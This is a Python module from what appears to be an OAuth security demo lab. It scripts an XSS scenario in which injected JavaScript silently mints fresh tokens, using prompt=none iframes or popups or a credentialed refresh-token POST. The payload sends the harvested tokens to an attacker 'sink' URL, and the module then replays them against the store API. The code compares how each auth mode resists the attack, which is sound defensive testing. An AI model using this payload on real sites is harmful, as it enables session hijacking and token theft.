"""Injected script silently logs in again to mint a fresh token.

Threat: an XSS (the `?xss=` hook) does not need to find a token at rest if it can make one.
- implicit modes: the IdP's SSO session answers `/oauth2/authorize?prompt=none&response_type=token`
  without a form. The payload first tries a hidden iframe (the Store refuses to be framed:
  `frame-ancestors 'none'`, X-Frame-Options DENY), then a tiny popup on the Store's own
  `/oauth-redirect`, whose URL fragment it reads (same origin) before the SPA clears it.
- native mode: no SSO, but the browser sends the IdP's HttpOnly refresh_token cookie with any
  credentialed fetch from an allowed origin: `POST /api/jwt/refresh` returns a new JWT (and
  refresh token) in the response body, to the script.
- code-pkce-cookie / bff: the payload tries the same (implicit is not enabled for these
  clients; a code it can catch on `/oauth-redirect` is useless without the client secret and
  the backend's PKCE verifier), and calls the backend's own refresh: tokens stay HttpOnly.
Stolen: a freshly minted JWT (a new one every time the payload runs, for as long as the SSO
session or refresh token lives). What stops it: code+PKCE with a confidential client / BFF.
"""
from __future__ import annotations

import json

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import BACKEND, IMPLICIT, describe, jwts_in, short, xss_url
from authgate_demo.stack import STORE_ID

ID = "07-xss-silent-relogin"
TITLE = "Injected script mints a new token: prompt=none iframe/popup, or credentialed refresh"

# Runs in the Store page. Reports everything it learns to SINK as {step: result}.
PAYLOAD = """(async function(){
var report = {}, send = function(){ fetch(SINK, {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)}); };
var sleep = function(ms){ return new Promise(function(r){ setTimeout(r, ms); }); };
try {
  if (NATIVE) {
    var r = await fetch(IDP + '/api/jwt/refresh', {method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json'}, body: '{}'});
    report.refresh = {status: r.status, body: await r.text()};
  } else {
    if (BACKEND) {
      var b = await fetch('/api/refresh', {method: 'POST'}); report.backend_refresh = {status: b.status, body: await b.text()};
    }
    var q = new URLSearchParams({client_id: CLIENT, response_type: RESPONSE_TYPE, redirect_uri: location.origin + '/oauth-redirect',
      scope: 'openid', prompt: 'none', state: 'evil', nonce: 'evil', code_challenge: CHALLENGE, code_challenge_method: 'S256'});
    var url = IDP + '/oauth2/authorize?' + q;
    var f = document.createElement('iframe'); f.style.display = 'none'; f.src = url; document.body.appendChild(f);
    await sleep(1500);
    try { report.iframe = f.contentWindow.location.href; } catch (e) { report.iframe = 'unreadable: ' + e.name; }
    var w = window.open(url, 'evil', 'width=50,height=50');
    report.popup = w ? 'no token seen' : 'popup blocked';
    for (var i = 0; w && i < 3000; i++) {
      try { var h = w.location.href; if (/access_token=|[?&]code=|error=/.test(h)) { report.popup = h; break; } } catch (e) {}
      await sleep(2);
    }
    if (w) w.close();
  }
} catch (e) { report.error = String(e); }
send();
})();"""

# RFC 7636 appendix B: the attacker picks the verifier, so a caught code would pass PKCE.
VERIFIER = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


def applies(mode: str) -> str | None:
    return None


def payload(ctx, tag: str) -> str:  # type: ignore[no-untyped-def]
    values = {"SINK": ctx.sink.collect_url(tag), "IDP": ctx.url("idp"), "CLIENT": STORE_ID,
              "NATIVE": ctx.mode == "native-refresh-cookie", "BACKEND": ctx.mode in BACKEND,
              "RESPONSE_TYPE": "token" if ctx.mode in IMPLICIT else "code", "CHALLENGE": CHALLENGE}
    out = PAYLOAD
    for k, v in values.items():
        out = out.replace(k, json.dumps(v))
    return out


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    page = await ctx.victim()
    tag = f"{ID}-{ctx.mode}"
    old = await page.evaluate("localStorage.getItem('authgate.jwt')") if ctx.mode == "implicit-localstorage" else None
    await page.goto(xss_url(ctx.url("store"), payload(ctx, tag)))
    got = await ctx.sink.wait_for(tag, timeout=15)
    if not got:
        return blocked("the payload reported nothing", ["no request reached the attacker's sink"])
    report = got[0]
    evidence = [f"payload report: " + json.dumps({k: (v if len(str(v)) < 160 else str(v)[:160] + "…")
                                                  for k, v in report.items()})]
    minted = [t for t in jwts_in(report) if t != old]
    if minted:
        jwt = minted[0]
        r = await ctx.attack("GET", "store", "/api/load-shopping-cart", headers={"Authorization": f"Bearer {jwt}"})
        evidence.append(f"attacker replays the minted JWT {short(jwt)}: {describe(r)}")
        if r.status_code == 200:
            how = ("a credentialed POST /api/jwt/refresh (the HttpOnly refresh cookie rides along)"
                   if ctx.mode == "native-refresh-cookie" else "prompt=none in a popup on /oauth-redirect (the iframe was refused)")
            return succeeded(stolen=f"a freshly minted JWT, via {how}",
                             usable_for="until its exp; the payload can mint another for as long as the "
                                        + ("refresh token" if ctx.mode == "native-refresh-cookie" else "IdP SSO session") + " lives",
                             mitigation="none in this mode; code+PKCE with a confidential client / BFF: nothing the script "
                                        "can mint is readable or usable",
                             evidence=evidence)
    popup = str(report.get("popup", ""))
    if "code=" in popup:
        from urllib.parse import parse_qs, urlsplit

        code = parse_qs(urlsplit(popup).query).get("code", [""])[0]
        r = await ctx.attack("POST", "idp", "/oauth2/token", data={
            "grant_type": "authorization_code", "code": code, "code_verifier": VERIFIER, "client_id": STORE_ID,
            "redirect_uri": ctx.url("store") + "/oauth-redirect"})
        evidence.append(f"the script caught a code {short(code)}; attacker exchanges it without the client secret: {describe(r)}")
        if r.status_code == 200:
            return succeeded(stolen="an authorization code, exchanged for tokens", usable_for="token lifetimes",
                             mitigation="client authentication missing at the token endpoint", evidence=evidence)
    return blocked("code+PKCE with a confidential client: no token reaches the page, a caught code is useless "
                   "without the client secret" + (" (the backend keeps the tokens: BFF)" if ctx.mode == "bff" else ""),
                   evidence, stolen="an authorization code (useless)" if "code=" in popup else "nothing")
